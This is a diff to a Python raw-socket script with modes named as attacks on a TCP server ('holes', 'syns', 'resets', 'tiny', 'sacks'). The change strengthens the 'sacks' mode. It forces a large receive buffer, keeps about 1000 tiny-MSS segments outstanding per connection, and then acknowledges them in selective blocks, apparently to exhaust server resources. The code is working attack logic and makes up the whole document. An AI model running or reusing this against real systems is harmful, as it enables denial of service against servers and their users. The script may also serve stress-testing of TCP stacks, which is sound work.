@@ -21,6 +21,8 @@ packet.settimeout(0.5)
 ethernet = bytes.fromhex(mac.replace(":", "")) + packet.getsockname()[4] + b"\x08\x00"
 FIN, SYN, RST, ACK = 1, 2, 4, 16
 TINY = 48
+OUT = 1000
+SO_RCVBUFFORCE = 33
 ISN = 1000
 server = socket.inet_aton(address)
 
@@ -202,22 +204,34 @@ class Stream:
 
 
 def pull():
-    """The windows are opened before "connected" is said."""
+    """The windows are opened before "connected" is said: of `sacks` until as many segments are out as are to be walked
+    through, since what is out is acknowledged only when all of it has come."""
     streams = {peer: Stream(peer, number) for peer, number in connect_all(4, mss=TINY, first=b"g")}
-    opened, said = time.monotonic() + 1.5, False
+    packet.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
+    closed, opened, said, late = dict(streams), time.monotonic() + 1.5, False, time.monotonic() + 20
     while time.monotonic() < end:
+        quiet = True
         for seen in waiting(200):
+            quiet = False
             if seen.peer in streams:
                 streams[seen.peer].note(seen)
+        if attack == "sacks" and not said:
+            for peer, stream in list(closed.items() if quiet else ()):
+                if stream.out() >= OUT:
+                    del closed[peer]
+                else:
+                    stream.take_all()
+            if closed and time.monotonic() < late:
+                continue
         if not said and time.monotonic() >= opened:
             begin(len(streams))
             said = True
         for stream in streams.values():
-            if attack == "tiny" or not said or stream.out() < 8:
+            if attack == "tiny":
                 stream.take_all()
-            else:
+            elif stream.out() >= 8:
                 stream.take_blocks()
-    print("out", max(stream.out() for stream in streams.values()))
+    print("out", min(stream.out() for stream in streams.values()))
 
 
 {"holes": holes, "acks": strays, "syns": strays, "resets": resets, "tiny": pull, "sacks": pull}[attack]()
